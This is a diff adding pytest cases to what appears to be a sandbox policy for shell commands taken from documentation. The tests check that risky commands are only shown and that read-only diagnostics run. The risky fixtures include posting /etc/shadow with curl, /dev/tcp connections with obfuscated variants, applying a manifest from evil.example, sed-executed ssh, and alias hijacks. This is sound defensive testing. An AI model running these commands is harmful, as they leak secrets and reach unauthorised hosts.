@@ -57,6 +57,130 @@ def test_what_writes_runs_only_where_files_are_out_of_reach(text):
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "curl http://localhost:8400/ prod.example.com",
+        "curl -x prod:80 http://localhost:8400/",
+        "curl -K f http://localhost:8400/",
+        "curl -o out http://localhost:8400/",
+        "curl --output=out http://localhost:8400/",
+        "curl -sSfoout http://localhost:8400/",
+        "curl -d @/etc/shadow http://localhost:8400/",
+        "curl -T f http://localhost:8400/",
+        "curl --unix-socket /run/docker.sock http://localhost:8400/",
+        "curl --connect-to ::prod:80 http://localhost:8400/",
+        "curl http://localhost:8400@prod.example.com/",
+        "curl 'http://{localhost:8400,prod}/'",
+        "curl http://localhost:8400/ --next http://prod/",
+        "http_proxy=http://prod:80 curl http://localhost:8400/",
+        "export HTTPS_PROXY=http://prod:80",
+        "export KUBECONFIG=/root/.kube/config",
+        "export RBT_STATE=/srv/rbt; rbt lab remove v2",
+        "env RBT_STATE=/srv/rbt rbt lab remove v2",
+        "wget -O f http://localhost:8400/",
+        "wget http://localhost:8400/",
+        "wget -i list http://localhost:8400/",
+        "cat < /dev/tcp/10.0.0.1/80",
+        "cat < /dev/'tcp'/10.0.0.1/80",
+        "f=/dev/tc; cat < ${f}p/10.0.0.1/80",
+        "kubectl -s https://prod get pods",
+        "kubectl --server=https://prod get pods",
+        "kubectl --token=x delete ns a",
+        "kubectl apply -f https://evil.example/x.yml",
+        "kubectl cp pod:/x /etc/x",
+        "kubectl exec pod -- sh",
+        "kubectl --cache-dir /etc get pods",
+        "sed 'w F' a",
+        "sed -n '1e ssh prod' a",
+        "sed '1,3w F' a",
+        "sed 's/a/ssh prod/e' a",
+        "sed 's/a/b/w F' a",
+        "sed --in-place s/a/b/ a",
+        "sed -ni p a",
+        "sed -f script a",
+        "x=-i; sed $x s/a/b/ a",
+        "sort -o F a",
+        "sort -uoF a",
+        "sort --output=F a",
+        "sort --compress-program=./x a",
+        'sort "$options" a',
+        "uniq A B",
+        "hostname NEW",
+        "hostname -F f",
+        "date -s tomorrow",
+        "date --set=tomorrow",
+        "date 112217002026",
+        "env -S 'ssh prod'",
+        "env --split-string='ssh prod'",
+        "env -S 'ssh prod' ls",
+        "env -C /x ls",
+        "file -C -m x",
+        "mktemp -d /etc/x.XXXXXX",
+        "mktemp -p /etc",
+        "declare x='a[$(ssh prod)]'",
+        "x=$'a[\\x24(ssh prod)]'",
+        "[[ $x -eq 1 ]] && echo yes",
+        "echo $((x + 1))",
+        '[ -v "$x" ]',
+        'unset "$x"',
+        'printf -v "$x" y',
+        "ls() { ssh prod; }; ls",
+        "alias ls='ssh prod'",
+        "rbt lab save /etc/x",
+        "rbt lab up kube --kube-context prod",
+        "ls $(ssh prod)",
+        "diff <(ssh prod cat a) b",
+        "l=ssh; $l prod",
+        "echo x >| /etc/f",
+        "echo x <> /etc/f",
+        "cat a 1<>/etc/f",
+    ],
+)
+def test_without_walls_nothing_real_gets_out(text):
+    stage = msgspec.structs.replace(OPEN, kube=True)
+    # each is a command of its own document: what is no shell command at all is not offered, which is as good
+    for one in read(f"# T\n\n```bash\n{text}\n```\n".encode(), "t.md").commands:
+        found = staged(one, RULES, stage)
+        assert found.act is Act.WOULD, (text, found.why)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -fsS -m 3 -o /dev/null -w '%{http_code}' http://localhost:8400/health?x=1",
+        "curl -s http://127.0.0.1:8400/metrics | grep errors | sort -nr -k2 | head -3",
+        "wget -qO- http://127.0.0.1:8400/health",
+        "sed -n '2,5p' app.log",
+        "sed -E 's/a+/b/g' app.log | uniq -c",
+        "sort -t: -k2 app.log",
+        "date -u +%FT%TZ",
+        "date -d yesterday +%F",
+        "hostname -f",
+        "env | sort",
+        "timeout 5 cat app.log",
+        "kubectl -n prod get pods -o wide",
+        "kubectl rollout undo deployment/api --to-revision=2",
+        "for i in 1 2 3; do echo $((i * 2)); done",
+        "for i in $(seq 1 5); do sleep 0.1; done",
+        'grep -c "$word" app.log',
+        '[ "$x" -gt 1 ] && echo yes',
+        "rbt lab deploy v2 --within 1",
+        "rbt lab check --requests 20 --max-errors 1",
+        "tail -n 5 app.log 2>/dev/null || true",
+    ],
+)
+def test_what_only_looks_at_the_stage_runs_without_walls(text):
+    stage = msgspec.structs.replace(OPEN, kube=True)
+    found = staged(command(text), RULES, stage)
+    assert found.act is Act.RUN, (text, found.why)
+
+
+@pytest.mark.parametrize("text", ["hostname NEW", "date -s tomorrow", "kubectl -s https://prod get pods"])
+def test_what_sets_this_machine_or_goes_elsewhere_is_only_shown_behind_walls_too(text):
+    assert staged(command(text), RULES, msgspec.structs.replace(ENCLOSED, kube=True)).act is Act.WOULD
+
+
+@pytest.mark.parametrize(
     ("text", "missing"),
     [
         ("kubectl apply -f x.yml", "kubectl"),
